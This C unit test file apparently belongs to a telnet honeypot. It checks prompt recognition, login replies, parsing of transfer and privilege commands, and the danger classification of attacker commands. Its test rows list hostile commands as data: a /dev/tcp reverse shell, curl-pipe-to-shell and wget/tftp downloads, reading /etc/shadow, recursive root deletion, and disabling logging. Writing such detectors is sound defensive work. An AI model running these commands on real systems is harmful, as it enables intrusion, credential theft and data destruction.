/* Prompts and answers of servers; what command lines do. */
#include <stdio.h>

#include "app/telnet/command.h"
#include "app/telnet/prompt.h"
#include "check.h"

static struct hg_telnet_own own;

static void
test_prompts_are_told_apart(void)
{
	static const struct {
		struct hg_span line;
		enum hg_telnet_asks want;
	} rows[] = {
		{ HG_BYTES("box login: "), HG_ASKS_USER },
		{ HG_BYTES("Username:"), HG_ASKS_USER },
		{ HG_BYTES("用户名："), HG_ASKS_USER },
		{ HG_BYTES("\xd3\xc3\xbb\xa7\xc3\xfb:"), HG_ASKS_USER },
		{ HG_BYTES("superuser:"), HG_ASKS_OTHER },
		{ HG_BYTES("Last login: "), HG_ASKS_OTHER },
		{ HG_BYTES("Password: "), HG_ASKS_PASSWORD },
		{ HG_BYTES("[sudo] password for anna: "), HG_ASKS_PASSWORD },
		{ HG_BYTES("\xbf\xda\xc1\xee\xa3\xba"), HG_ASKS_PASSWORD },
		{ HG_BYTES("Password"), HG_ASKS_OTHER },
		{ HG_BYTES("New password:"), HG_ASKS_NEW_PASSWORD },
		{ HG_BYTES("请确认密码："), HG_ASKS_NEW_PASSWORD },
		{ HG_BYTES("root@box:~# "), HG_ASKS_COMMAND },
		{ HG_BYTES("<Huawei>"), HG_ASKS_COMMAND },
		{ HG_BYTES("[H3C-acl-basic-2000]"), HG_ASKS_COMMAND },
		{ HG_BYTES("C:\\>"), HG_ASKS_COMMAND },
		{ HG_BYTES("  ---- More ----"), HG_ASKS_KEY },
		{ HG_BYTES("hello"), HG_ASKS_OTHER },
		{ HG_BYTES(""), HG_ASKS_OTHER },
		{ HG_BYTES("Kennung: "), HG_ASKS_USER },
		{ HG_BYTES("router ~ "), HG_ASKS_COMMAND },
	};

	own = (struct hg_telnet_own){ .n = { [HG_WORDS_USER] = 1, [HG_WORDS_COMMAND] = 1 },
		.len = { [HG_WORDS_USER] = { 8 }, [HG_WORDS_COMMAND] = { 1 } } };
	memcpy(own.text[HG_WORDS_USER][0], "kennung:", 8);
	own.text[HG_WORDS_COMMAND][0][0] = '~';
	for (size_t i = 0; i < HG_COUNT(rows); i++) {
		uint8_t plain[2 * HG_TELNET_PROMPT];
		char title[64];

		snprintf(title, sizeof(title), "%s", (const char *)rows[i].line.p);
		hg_check_u64(title, hg_telnet_asks(&own, hg_telnet_plain(rows[i].line, plain)), rows[i].want);
	}
}

static void
test_answers_are_known(void)
{
	static const struct {
		enum hg_telnet_words kind;
		struct hg_span line;
		bool want;
	} rows[] = {
		{ HG_WORDS_FAILURE, HG_BYTES("Login incorrect"), true },
		{ HG_WORDS_FAILURE, HG_BYTES("% Bad passwords"), true },
		{ HG_WORDS_FAILURE, HG_BYTES("Error: Failed to log in."), true },
		{ HG_WORDS_FAILURE, HG_BYTES("\xb5\xc7\xc2\xbc\xca\xa7\xb0\xdc"), true },
		{ HG_WORDS_FAILURE,
			HG_BYTES("There were 2 failed login attempts since the last successful login."),
			false },
		{ HG_WORDS_FAILURE, HG_BYTES("Welcome"), false },
		{ HG_WORDS_SUCCESS, HG_BYTES("Last login: Mon Jan  1"), true },
		{ HG_WORDS_SUCCESS, HG_BYTES("Welcome to box"), false },
	};

	for (size_t i = 0; i < HG_COUNT(rows); i++) {
		uint8_t plain[2 * HG_TELNET_PROMPT];

		hg_check_bool((const char *)rows[i].line.p,
			hg_telnet_says(&own, rows[i].kind, hg_telnet_plain(rows[i].line, plain)) != NULL,
			rows[i].want);
	}
}

static void
test_dangers_are_named(void)
{
	static const struct {
		const char *command;
		uint32_t want;
	} rows[] = {
		{ "ls -l", 0 },
		{ "cd /tmp; wget http://a/b", 1u << HG_DANGER_DOWNLOAD },
		{ "echo wget", 0 },
		{ "man rm -rf", 0 },
		{ "sudo rm -rf /var", 1u << HG_DANGER_DESTROY },
		{ "rm -r -f /", 1u << HG_DANGER_DESTROY },
		{ "rm --force --recursive /", 1u << HG_DANGER_DESTROY },
		{ "rm -r old", 0 },
		{ "busybox wget http://a/b", 1u << HG_DANGER_PROBE | 1u << HG_DANGER_DOWNLOAD },
		{ "RELOAD", 1u << HG_DANGER_RESTART },
		{ "curl -s a | sh", 1u << HG_DANGER_DOWNLOAD | 1u << HG_DANGER_EXECUTE },
		{ "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", 1u << HG_DANGER_REVERSE_SHELL },
		{ "cat /etc/shadow", 1u << HG_DANGER_CREDENTIALS },
		{ "undo info-center enable", 1u << HG_DANGER_HIDE | 1u << HG_DANGER_CONFIGURE },
		{ "/bin/busybox MIRAI", 1u << HG_DANGER_PROBE },
		{ "", 0 },
	};

	for (size_t i = 0; i < HG_COUNT(rows); i++)
		hg_check_u64(
			rows[i].command, hg_telnet_danger_of(hg_span_str(rows[i].command)), rows[i].want);
}

static void
test_transfers_and_rises_are_read(void)
{
	static const struct {
		const char *command, *tool, *object;
		bool upload;
		const char *how, *user;
	} rows[] = {
		{ "wget -q http://a/b -O c", "wget", "http://a/b", false, "", "" },
		{ "cd /tmp && busybox tftp -g -r m 192.0.2.9", "tftp", "-g -r m 192.0.2.9", false, "", "" },
		{ "tftp 192.0.2.9 put a.cfg", "tftp", "192.0.2.9 put a.cfg", true, "", "" },
		{ "copy tftp://h/f flash:", "copy", "tftp://h/f", false, "", "" },
		{ "copy run start", "", "", false, "", "" },
		{ "rz", "rz", "", false, "", "" },
		{ "su - bob", "", "", false, "su", "bob" },
		{ "su", "", "", false, "su", "" },
		{ "sudo -u x ls", "", "", false, "sudo", "" },
		{ "subst", "", "", false, "", "" },
		{ "system-view", "", "", false, "system-view", "" },
	};

	for (size_t i = 0; i < HG_COUNT(rows); i++) {
		const struct hg_span command = hg_span_str(rows[i].command);
		const struct hg_telnet_transfer t = hg_telnet_transfer_of(command);
		const struct hg_telnet_rise rise = hg_telnet_rise_of(command);

		hg_check_str(rows[i].command, t.tool == NULL ? "" : t.tool, rows[i].tool);
		hg_check_span(rows[i].command, t.object, hg_span_str(rows[i].object));
		hg_check_bool(rows[i].command, t.upload, rows[i].upload);
		hg_check_str(rows[i].command, rise.how == NULL ? "" : rise.how, rows[i].how);
		hg_check_span(rows[i].command, rise.user, hg_span_str(rows[i].user));
	}
}

HG_TESTS("telnet_words", HG_TEST(test_prompts_are_told_apart), HG_TEST(test_answers_are_known),
	HG_TEST(test_dangers_are_named), HG_TEST(test_transfers_and_rises_are_read))
